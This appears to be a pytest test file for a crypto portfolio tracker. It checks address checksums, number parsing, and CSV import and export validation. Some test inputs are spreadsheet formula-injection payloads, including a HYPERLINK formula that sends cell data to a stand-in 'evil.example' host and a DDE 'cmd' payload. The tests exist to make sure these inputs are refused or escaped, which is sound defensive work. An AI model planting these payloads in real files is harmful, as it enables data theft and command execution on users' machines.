"""Identifiers and numbers (docs/interfaces.md): EVM addresses one wallet per chain in EIP-55
form, no invisible characters or formula prefixes, ASCII digits only, zeros stored as 0."""

import io
from decimal import Decimal

import pytest

from bagtracker.identifiers import BadIdentifier, canonical_address, checksum_address, identifier_problem
from bagtracker.models import Price, Token, Transaction, Wallet
from bagtracker.numbers import NotANumber, parse_decimal, parse_integer
from bagtracker.services.imports import ImportRejected, import_prices, import_transactions
from snapshots.services.exports import render_csv, spreadsheet_text
from tests.csv_factory import HEADER, database_state

# The test vectors of EIP-55 itself.
EIP55 = [
    "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed",
    "0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359",
    "0xdbF03B407c01E7cD3CBea99509d93f8DDDC8C6FB",
    "0xD1220A0cf47c7B9Be7A2E6BA89F429762e7b9aDb",
    "0x52908400098527886E0F7030069857D2E4169EE7",
    "0x8617E340B3D01FA5F11F306F4090FD50E238070D",
    "0xde709f2102306220921060314715629080e2fb77",
    "0x27b1fdb04752bbc536007a920d24acb045561c26",
]
ADDRESS = "0x52908400098527886E0F7030069857D2E4169EE7"


@pytest.mark.parametrize("address", EIP55)
def test_the_checksum_is_eip_55(address):
    assert checksum_address(address.lower()) == address
    assert canonical_address(address.upper().replace("0X", "0x")) == address


def test_a_mixed_case_address_with_a_wrong_checksum_is_refused():
    typo = ADDRESS[:-1] + "e"  # ...EE7 -> ...Ee7
    with pytest.raises(BadIdentifier, match="wrong EIP-55 checksum"):
        canonical_address(typo, "wallet")


def test_other_addresses_are_exact():
    assert canonical_address("SoLaNa1") == "SoLaNa1"
    assert canonical_address("0xabc") == "0xabc"
    assert (
        canonical_address("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq") == "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
    )


@pytest.mark.parametrize(
    "value, problem",
    [
        ("\ufeff0xE", "U+FEFF"),
        ("ETH\u200b", "U+200B ZERO WIDTH SPACE"),
        ("0x52\n9084", "U+000A"),
        ("a\u00a0b", "U+00A0 NO-BREAK SPACE"),
        ("a\u2028", "U+2028"),
        ("\u202eETH", "U+202E"),
        (" ETH", "whitespace"),
        ("ETH ", "whitespace"),
        ('=HYPERLINK("http://evil.example/?x="&A1;"click")', "begins with '='"),
        ("+cmd|'/C calc'!A0", "begins with '+'"),
        ("@SUM(1+1)*cmd|x", "begins with '@'"),
        ("-2+3", "begins with '-'"),
    ],
)
def test_invisible_characters_and_formula_prefixes_are_problems(value, problem):
    assert problem in identifier_problem(value)


def test_ordinary_identifiers_have_no_problem():
    for value in ["ETH", "USDC.e", "ethereum", "0x9f1c", "5VfydnLu4XwV2H2dLHPv22JxhLbYJruaM9YTaGY30TZj", "Wrapped ETH"]:
        assert identifier_problem(value) == ""


@pytest.mark.parametrize("text", ["1_000", "١٢", "１２", " 1", "1 ", "0x10", "1e", ".", "", "١.٥"])
def test_numbers_are_ascii_digits_only(text):
    with pytest.raises(NotANumber):
        parse_decimal(text)


@pytest.mark.parametrize("text", ["١", "７", "1_000", "1.0", ""])
def test_integers_are_ascii_digits_only(text):
    with pytest.raises(NotANumber):
        parse_integer(text)


@pytest.mark.parametrize("text", ["-0", "0E-100000", "0e999999999999", "+0.000", "-0.0E+5"])
def test_every_zero_is_plain_zero(text):
    number = parse_decimal(text)
    assert number == 0 and str(number) == "0"


def test_exact_numbers_stay_exact():
    assert parse_decimal("1.5E-6") == Decimal("0.0000015")
    assert parse_decimal("123.456789012345678901") == Decimal("123.456789012345678901")


# --- the importers ---------------------------------------------------------------------------------


def tx_csv(*rows):
    return io.BytesIO(("\n".join([HEADER, *rows]) + "\n").encode())


def tx_line(
    wallet=ADDRESS, token="ETH", amount="1", price="100", tx_hash="", at="2026-01-01T00:00:00Z", chain="ethereum"
):
    return f"{wallet},{chain},{token},buy,confirmed,{amount},{price},{at},{tx_hash}"


@pytest.mark.django_db
def test_case_variants_of_an_evm_address_are_one_wallet_stored_checksummed():
    import_transactions(
        tx_csv(tx_line(ADDRESS.lower(), tx_hash="0x1"), tx_line(ADDRESS.upper().replace("0X", "0x"), tx_hash="0x2"))
    )
    import_transactions(tx_csv(tx_line(ADDRESS, tx_hash="0x3")))
    (wallet,) = Wallet.objects.all()
    assert wallet.address == ADDRESS
    assert wallet.transactions.count() == 3


@pytest.mark.django_db
@pytest.mark.parametrize(
    "line, message",
    [
        ("\ufeff" + tx_line(), "wallet '\\ufeff0x5290"),
        (tx_line(token="\ufeffETH"), "token '\\ufeffETH' contains an invisible or control character (U+FEFF"),
        (tx_line(wallet='"0x5290\n8400"'), "U+000A"),
        (tx_line(wallet='"=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"'), "wallet '=HYPERLINK"),
        (tx_line(token="+cmd|'/C calc'!A0"), "token \"+cmd|'/C calc'!A0\" begins with '+'"),
        (tx_line(tx_hash="@SUM(1+1)*cmd|x"), "tx_hash '@SUM(1+1)*cmd|x' begins with '@'"),
        (tx_line(chain="-ethereum"), "chain '-ethereum' begins with '-'"),
        (tx_line(wallet=ADDRESS[:-1] + "e"), "wrong EIP-55 checksum"),
        (tx_line(amount="1_000"), "amount '1_000' is not a number"),
        (tx_line(amount="١٢"), "amount '١٢' is not a number"),
        (tx_line(amount="１２"), "amount '１２' is not a number"),
        (tx_line(price="1\u00a0000"), "price_usd '1\\xa0000' is not a number"),
        (tx_line(at="2008-12-31T00:00:00Z"), "timestamp '2008-12-31T00:00:00Z' is before 2009-01-03"),
        (tx_line(at="2999-01-01T00:00:00Z"), "is more than one day in the future"),
        (tx_line(at="0001-01-01T00:00:00+01:00"), "timestamp '0001-01-01T00:00:00+01:00' is before 2009-01-03"),
        (tx_line(at="9999-12-31T23:00:00-05:00"), "is more than one day in the future"),
    ],
)
def test_the_transaction_importer_refuses_look_alikes_and_lenient_numbers(line, message):
    before = database_state()
    with pytest.raises(ImportRejected) as refused:
        import_transactions(tx_csv(tx_line(tx_hash="0xgood"), line))
    assert message in str(refused.value)
    assert str(refused.value).startswith(("line 2:", "line 3:"))
    assert database_state() == before


@pytest.mark.django_db
def test_zero_prices_are_stored_as_zero(token):
    import_transactions(tx_csv(tx_line(price="-0", tx_hash="0x1"), tx_line(price="0E-100000", tx_hash="0x2")))
    assert {str(p) for p in Transaction.objects.values_list("price_usd", flat=True)} == {"0E-18"}
    import_prices(io.BytesIO(b"chain,token,as_of,price_usd\nethereum,ETH,2026-01-01T00:00:00Z,-0.0\n"))
    assert Price.objects.get().price_usd == 0


@pytest.mark.django_db
@pytest.mark.parametrize(
    "row, message",
    [
        ("ethereum,ETH,0001-01-01T00:00:00+01:00,1", "as_of '0001-01-01T00:00:00+01:00' is before 2009-01-03"),
        ("ethereum,ETH,9999-12-31T23:00:00-05:00,1", "as_of '9999-12-31T23:00:00-05:00' is more than one day"),
        ("ethereum,ETH,2026-01-01T00:00:00Z,1_000", "price_usd '1_000' is not a number"),
        ("ethereum,\ufeffETH,2026-01-01T00:00:00Z,1", "token '\\ufeffETH' contains an invisible"),
    ],
)
def test_the_price_importer_refuses_the_same(token, row, message):
    with pytest.raises(ImportRejected, match=r"^line 2: ") as refused:
        import_prices(io.BytesIO(f"chain,token,as_of,price_usd\n{row}\n".encode()))
    assert message in str(refused.value)
    assert not Price.objects.exists() and Token.objects.count() == 1


# --- exports ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_text_cell_a_spreadsheet_would_run_gets_a_quote(text):
    assert spreadsheet_text(text) == "'" + text


def test_only_text_columns_are_neutralised():
    row = {"wallet": "=evil", "chain": "ethereum", "token": "-X", "amount": "-5", "total_in": "1"}
    lines = list(render_csv([row], columns=list(row), text_columns=("wallet", "chain", "token")))
    assert lines[1] == "'=evil,ethereum,'-X,-5,1\n"
